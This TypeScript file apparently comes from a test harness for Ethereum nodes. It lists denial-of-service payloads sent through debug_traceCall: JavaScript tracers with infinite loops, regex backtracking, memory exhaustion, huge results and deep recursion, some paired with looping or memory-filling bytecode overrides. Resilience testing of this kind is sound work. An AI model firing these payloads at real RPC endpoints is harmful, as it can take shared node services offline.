/** Lists calls that are traced by scripts which do not return, need much memory, or see many steps. */
import { toHex } from "@tandem/primitives";
import { assemble } from "../assemble.js";
import { type Attack, requesting } from "./attack.js";

const contract = "0x00000000000000000000000000000000000c0de4";
const stop = "0x00";
/** Jumps to its beginning until the gas is used. */
const loop = "0x5b5f56";
/** Writes into a megabyte of memory until the gas is used. */
const writes = "0x5f620fffe0525b6001630000000a525f50600556";

/** Fills the stack, and duplicates an item until the gas is used. */
const deepStack = () => {
  const items = Array.from({ length: 1020 }, () => 0);
  return toHex(assemble(...items, "JUMPDEST", "DUP1", "POP", items.length, "JUMP"));
};

const at = (body: string) =>
  `{ step: function(log, db) { ${body} }, fault: function() {}, result: function() { return 1; } }`;
const ending = (body: string) => `{ fault: function() {}, result: function(ctx, db) { ${body} } }`;
const several = (count: number) => `var all = []; for (var i = 0; i < ${count}; i++) all.push(i);`;

const traced = (name: string, tracer: string, code = stop, gas = 15_000_000): Attack =>
  requesting(`debug_traceCall, script: ${name}`, "debug_traceCall", () => [
    { to: contract, gas: `0x${gas.toString(16)}` },
    "latest",
    { tracer, stateOverrides: { [contract]: { code } } },
  ]);

export const scriptAttacks: readonly Attack[] = [
  traced("a loop", at("for (;;) {}")),
  traced("backtracking of a regular expression", at("/^(a+)+$/.test('a'.repeat(64) + 'b');")),
  traced("BigInts of a million bits", at("for (;;) (2n ** 1000000n - 1n).toString();")),
  traced("repeated texts", at("for (;;) 'abc'.repeat(1e6);")),
  traced("sorting", at(`${several(100_000)} for (;;) all.sort();`)),
  traced("all memory", at("var all = []; for (;;) all.push(new Array(1e5).fill(1));")),
  traced("recursion", at("eval('['.repeat(1e5));")),
  traced("a result of 16 MB", ending("return 'x'.repeat(16e6);")),
  traced("a result of a million numbers", ending(`${several(1_000_000)} return all;`)),
  traced("a result of 400,000 numbers", ending(`${several(400_000)} return all;`)),
  traced("each step", at("this.n = log.getGas();"), loop),
  traced("each step, with reads of the state", at("db.getNonce([1]);"), loop),
  traced("steps of 30,000 gas, with reads of the state", at("db.getNonce([1]);"), loop, 30_000),
  traced("each step, with a megabyte of memory", at("log.memory.slice(0, 1e6);"), writes),
  traced("writes into a megabyte of memory", at("this.n = log.memory.length();"), writes),
  traced("a deep stack", at("log.stack.peek(1000);"), deepStack()),
];
